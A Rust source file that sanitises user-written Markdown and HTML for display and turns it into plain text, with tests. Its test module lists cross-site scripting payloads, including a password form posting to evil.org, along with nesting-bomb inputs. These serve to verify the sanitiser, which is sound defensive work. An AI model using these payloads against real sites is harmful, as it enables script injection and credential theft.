//! What people write, as HTML that is safe to show and as plain text.
//!
//! Markdown with tables and strikethrough; HTML inside is sanitised. The result holds no scripts, styles, forms,
//! frames or pictures (an address of a picture would tell its owner who looks at it: a picture in Markdown becomes
//! a link), every link is `nofollow ugc`, and headings start at the third level, below those of the page.

use ammonia::Builder;
use pulldown_cmark::{CowStr, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd, html};
use std::collections::HashSet;
use std::sync::LazyLock;

/// Longer texts are cut there; forms and APIs refuse them before.
pub const MOST_CHARS: usize = 50_000;

/// Quotes in quotes and lists in lists beyond this depth are shown at this depth.
const DEEPEST: usize = 16;

/// A text with more pieces of HTML than this has them shown as written.
const MOST_TAGS: usize = 2000;

/// Markdown as sanitised HTML.
pub fn to_html(markdown: &str) -> String {
    let markdown = cut(markdown);
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let as_text = markdown.bytes().filter(|b| *b == b'<').count() > MOST_TAGS;
    let mut depth = Depth::default();
    let events =
        Parser::new_ext(markdown, options).filter(|event| depth.keeps(event)).map(|event| match event {
            Event::Html(text) | Event::InlineHtml(text) if as_text => Event::Text(text),
            Event::Start(Tag::Image { dest_url, title, id, .. }) => {
                Event::Start(Tag::Link { link_type: LinkType::Inline, dest_url, title, id })
            }
            Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
            Event::Start(Tag::Heading { level, .. }) => Event::Start(Tag::Heading {
                level: lower(level),
                id: None,
                classes: Vec::new(),
                attrs: Vec::new(),
            }),
            Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(lower(level))),
            Event::Start(Tag::Table(_)) => Event::Start(Tag::Table(Vec::new())),
            Event::SoftBreak => Event::HardBreak,
            other => other,
        });
    let mut unsafe_html = String::with_capacity(markdown.len().saturating_mul(2));
    html::push_html(&mut unsafe_html, events);
    SANITISER.clean(&unsafe_html).to_string()
}

/// HTML from somewhere else, sanitised as ours is.
pub fn clean_html(html: &str) -> String {
    let html = cut(html);
    if html.bytes().filter(|b| *b == b'<').count() > MOST_TAGS.saturating_mul(2) {
        return ammonia::clean_text(html);
    }
    SANITISER.clean(html).to_string()
}

/// Markdown as plain text: for mails, feeds, search and calendar programs. Addresses of links stand behind them.
pub fn plain_text(markdown: &str) -> String {
    text_of(&to_html(markdown))
}

/// HTML from somewhere else as plain text.
pub fn plain_text_of_html(html: &str) -> String {
    text_of(&clean_html(html))
}

static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from([
            "a",
            "abbr",
            "b",
            "blockquote",
            "br",
            "code",
            "dd",
            "del",
            "dl",
            "dt",
            "em",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "i",
            "ins",
            "kbd",
            "li",
            "mark",
            "ol",
            "p",
            "pre",
            "q",
            "s",
            "small",
            "strong",
            "sub",
            "sup",
            "table",
            "tbody",
            "td",
            "tfoot",
            "th",
            "thead",
            "tr",
            "u",
            "ul",
        ]))
        .clean_content_tags(HashSet::from([
            "script", "style", "title", "template", "noscript", "svg", "math",
        ]))
        .add_tag_attributes("a", ["href", "title"])
        .add_tag_attributes("abbr", ["title"])
        .add_tag_attributes("ol", ["start"])
        .add_tag_attributes("td", ["colspan", "rowspan"])
        .add_tag_attributes("th", ["colspan", "rowspan", "scope"])
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel", "geo", "webcal"]))
        .url_relative(ammonia::UrlRelative::PassThrough)
        .link_rel(Some("noopener nofollow ugc"))
        .strip_comments(true);
    builder
});

fn cut(text: &str) -> &str {
    text.char_indices().nth(MOST_CHARS).and_then(|(end, _)| text.get(..end)).unwrap_or(text)
}

fn lower(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        _ => HeadingLevel::H6,
    }
}

/// Leaves out the beginnings and ends of what nests too deep, keeping what is inside.
#[derive(Default)]
struct Depth {
    open: usize,
}

impl Depth {
    fn keeps(&mut self, event: &Event<'_>) -> bool {
        match event {
            Event::Start(Tag::BlockQuote(_) | Tag::List(_) | Tag::Item | Tag::Emphasis | Tag::Strong) => {
                self.open = self.open.saturating_add(1);
                self.open <= DEEPEST
            }
            Event::End(
                TagEnd::BlockQuote(_) | TagEnd::List(_) | TagEnd::Item | TagEnd::Emphasis | TagEnd::Strong,
            ) => {
                let kept = self.open <= DEEPEST;
                self.open = self.open.saturating_sub(1);
                kept
            }
            _ => true,
        }
    }
}

/// Reads the sanitiser's own output, which is well formed: `<` stands only at tags, and attributes are quoted.
fn text_of(html: &str) -> String {
    let mut out = Text::default();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        out.words(rest.get(..start).unwrap_or_default());
        let tail = rest.get(start..).unwrap_or_default();
        let end = end_of_tag(tail);
        out.tag(tail.get(1..end.saturating_sub(1)).unwrap_or_default());
        rest = tail.get(end..).unwrap_or_default();
    }
    out.words(rest);
    out.finish()
}

fn end_of_tag(tag: &str) -> usize {
    let mut quoted = false;
    for (i, c) in tag.char_indices() {
        match c {
            '"' => quoted = !quoted,
            '>' if !quoted => return i.saturating_add(1),
            _ => {}
        }
    }
    tag.len()
}

#[derive(Default)]
struct Text {
    out: String,
    /// Line ends owed before the next word.
    breaks: usize,
    lists: Vec<Option<u32>>,
    link: Option<(String, usize)>,
    preformatted: bool,
}

impl Text {
    fn words(&mut self, escaped: &str) {
        let text = unescape(escaped);
        if self.preformatted {
            self.pay_breaks();
            self.out.push_str(&text);
            return;
        }
        let mut words = text.split_whitespace().peekable();
        if words.peek().is_none() {
            if !text.is_empty() && self.breaks == 0 {
                self.space();
            }
            return;
        }
        self.pay_breaks();
        if text.starts_with(char::is_whitespace) {
            self.space();
        }
        let joined = words.collect::<Vec<_>>().join(" ");
        self.out.push_str(&joined);
        if text.ends_with(char::is_whitespace) {
            self.space();
        }
    }

    fn space(&mut self) {
        if !self.out.is_empty() && !self.out.ends_with([' ', '\n']) {
            self.out.push(' ');
        }
    }

    fn pay_breaks(&mut self) {
        if self.breaks > 0 && !self.out.is_empty() {
            self.out.truncate(self.out.trim_end().len());
            self.out.extend(std::iter::repeat_n('\n', self.breaks));
        }
        self.breaks = 0;
    }

    fn owe(&mut self, breaks: usize) {
        self.breaks = self.breaks.max(breaks);
    }

    fn tag(&mut self, inside: &str) {
        let name = inside.split([' ', '/']).find(|p| !p.is_empty()).unwrap_or_default();
        match (inside.starts_with('/'), name) {
            (_, "br") => {
                self.breaks = self.breaks.saturating_add(1).min(2);
            }
            (false, "li") => self.item(),
            (true, "li") | (_, "tr") => self.owe(1),
            (false, "ul") => self.open_list(None),
            (false, "ol") => {
                self.open_list(attribute(inside, "start").and_then(|s| s.parse().ok()).or(Some(1)))
            }
            (true, "ul" | "ol") => {
                self.lists.pop();
                self.owe(if self.lists.is_empty() { 2 } else { 1 });
            }
            (true, "td" | "th") => self.space(),
            (false, "pre") => {
                self.owe(2);
                self.preformatted = true;
            }
            (true, "pre") => {
                self.preformatted = false;
                self.owe(2);
            }
            (false, "a") => {
                self.pay_breaks();
                self.link =
                    attribute(inside, "href").map(|href| (unescape(&href).into_string(), self.out.len()));
            }
            (true, "a") => self.close_link(),
            (_, "p" | "blockquote" | "h3" | "h4" | "h5" | "h6" | "table" | "dl") => {
                // Paragraphs of a list's item stay with it.
                self.owe(if self.lists.is_empty() { 2 } else { 1 });
            }
            (_, "dt" | "dd" | "hr") => self.owe(1),
            _ => {}
        }
    }

    fn open_list(&mut self, number: Option<u32>) {
        self.owe(if self.lists.is_empty() { 2 } else { 1 });
        self.lists.push(number);
    }

    fn item(&mut self) {
        self.owe(1);
        self.pay_breaks();
        let indent = "  ".repeat(self.lists.len().saturating_sub(1));
        let mark = match self.lists.last_mut() {
            Some(Some(number)) => {
                let mark = format!("{indent}{number}. ");
                *number = number.saturating_add(1);
                mark
            }
            _ => format!("{indent}• "),
        };
        self.out.push_str(&mark);
    }

    fn close_link(&mut self) {
        let Some((href, start)) = self.link.take() else { return };
        let shown = self.out.get(start..).unwrap_or_default().trim();
        let bare = href.strip_prefix("mailto:").or(href.strip_prefix("tel:")).unwrap_or(&href);
        let repeats = shown == bare || shown == bare.trim_start_matches("https://").trim_end_matches('/');
        let absolute = href.contains(':');
        if absolute && !repeats {
            self.out.truncate(self.out.trim_end().len());
            self.out.push_str(&format!(" ({bare})"));
        }
    }

    fn finish(self) -> String {
        self.out.trim().to_owned()
    }
}

fn attribute(inside: &str, name: &str) -> Option<String> {
    let start = inside.find(&format!(" {name}=\""))?.saturating_add(name.len()).saturating_add(3);
    let value = inside.get(start..)?;
    value.split('"').next().map(str::to_owned)
}

/// The five escapes that the serialiser writes.
fn unescape(text: &str) -> CowStr<'_> {
    if !text.contains('&') {
        return text.into();
    }
    text.replace("&nbsp;", "\u{a0}")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&amp;", "&")
        .into()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn markdown_becomes_html_below_the_headings_of_the_page() {
        assert_eq!(
            to_html("# Rally\n\n**Bring** ~~nothing~~ a bike"),
            "<h3>Rally</h3>\n<p><strong>Bring</strong> <del>nothing</del> a bike</p>\n"
        );
        let table = to_html("|a|b|\n|-|:-:|\n|1|2|");
        assert!(table.contains("<td>1</td>") && !table.contains("style"), "{table}");
        assert_eq!(to_html("one\ntwo"), "<p>one<br>\ntwo</p>\n");
    }

    #[test]
    fn links_are_marked_and_pictures_become_links() {
        assert_eq!(
            to_html("[x](https://e.org/?a=1&b=2)"),
            "<p><a href=\"https://e.org/?a=1&amp;b=2\" rel=\"noopener nofollow ugc\">x</a></p>\n"
        );
        let picture = to_html("![tracker](https://e.org/p.png)");
        assert!(
            picture.contains("<a href=\"https://e.org/p.png\"") && !picture.contains("<img"),
            "{picture}"
        );
    }

    #[test]
    fn nothing_that_runs_or_looks_like_the_page_survives() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[x](javascript:alert(1))",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<svg/onload=alert(1)>",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
            "<style>body{display:none}</style>",
            "<p style=\"position:fixed;inset:0\" onclick=\"alert(1)\" class=\"button\" id=\"main\">x</p>",
            "<form action=https://evil.org><input name=password><button>go</button></form>",
            "<iframe src=https://evil.org></iframe>",
            "<object data=x></object><embed src=x><base href=https://evil.org><meta http-equiv=refresh content=0>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<!--><script>alert(1)</script>-->",
            "<x onmouseover=alert(1)>y</x>",
            "<textarea></textarea><select></select><video src=x></video>",
        ] {
            for html in [to_html(attack), clean_html(attack)] {
                let lower = html.to_lowercase();
                for forbidden in [
                    "<script",
                    "<img",
                    "<svg",
                    "<style",
                    "<form",
                    "<input",
                    "<iframe",
                    "<object",
                    "<meta",
                    "<base",
                    "<button",
                    "<video",
                    "<math",
                    "href=\"javascript:",
                    "href=\"data:",
                    "style=",
                    "class=",
                    "id=",
                ] {
                    assert!(!lower.contains(forbidden), "{attack} gave {html}");
                }
                assert!(!regexless_handler(&lower), "{attack} gave {html}");
            }
        }
    }

    /// An `on…=` attribute inside a tag.
    fn regexless_handler(html: &str) -> bool {
        html.split('<').skip(1).any(|t| t.split('>').next().is_some_and(|tag| tag.contains(" on")))
    }

    #[test]
    fn a_mail_reads_well_without_html() {
        let text = plain_text(
            "# Rally\n\nBring:\n\n- a **bike**\n- water\n\n1. one\n2. two\n\nMore [here](https://e.org/x), <https://e.org> & <b>that</b>  \nis all.\n\n|a|b|\n|-|-|\n|1|2|\n",
        );
        assert_eq!(
            text,
            "Rally\n\nBring:\n\n• a bike\n• water\n\n1. one\n2. two\n\nMore here (https://e.org/x), https://e.org & that\nis all.\n\na b\n1 2"
        );
        assert_eq!(plain_text("a < b && c > d \"x\""), "a < b && c > d \"x\"");
        assert_eq!(plain_text("```\n  code\n    more\n```"), "code\n    more");
        assert_eq!(plain_text("1. a\n   - b\n   - c\n2. d"), "1. a\n  • b\n  • c\n2. d");
        assert_eq!(plain_text_of_html("<p>Uno</p><p>Due<br>Tre</p><script>x</script>"), "Uno\n\nDue\nTre");
    }

    #[test]
    fn bombs_of_nesting_neither_hang_nor_overflow() {
        let start = std::time::Instant::now();
        for bomb in [
            ">".repeat(50_000),
            "- ".repeat(25_000),
            "<div>".repeat(10_000),
            "<b><i>".repeat(1_000),
            "<a href=x>".repeat(1_900),
            "[".repeat(50_000),
            "*a ".repeat(16_000),
            "**a".repeat(16_000),
            "`".repeat(49_999),
            "<table><tr><td>".repeat(600),
            "[a](".repeat(12_000),
            "![".repeat(25_000),
            "|a".repeat(20_000) + "\n" + &"|-".repeat(5_000),
            "x".repeat(60_000),
        ] {
            let html = to_html(&bomb);
            let text = plain_text(&bomb);
            assert!(html.len() < 2_000_000 && text.len() < 2_000_000, "{}", bomb.get(..10).unwrap());
        }
        assert!(start.elapsed().as_secs() < 20, "took {:?}", start.elapsed());
        let quotes = to_html(&format!("{} deep", ">".repeat(1000)));
        assert_eq!(quotes.matches("<blockquote>").count(), DEEPEST);
        assert!(quotes.contains("deep"));
    }

    proptest! {
        #[test]
        fn sanitised_html_is_stable_and_every_input_is_survived(text in "[a-z<>/=\"'&;!\\[\\]()*_`~#|\\- \n]{0,200}") {
            let html = to_html(&text);
            prop_assert_eq!(clean_html(&html), html.clone());
            prop_assert!(!regexless_handler(&html));
            plain_text(&text);
        }
    }
}
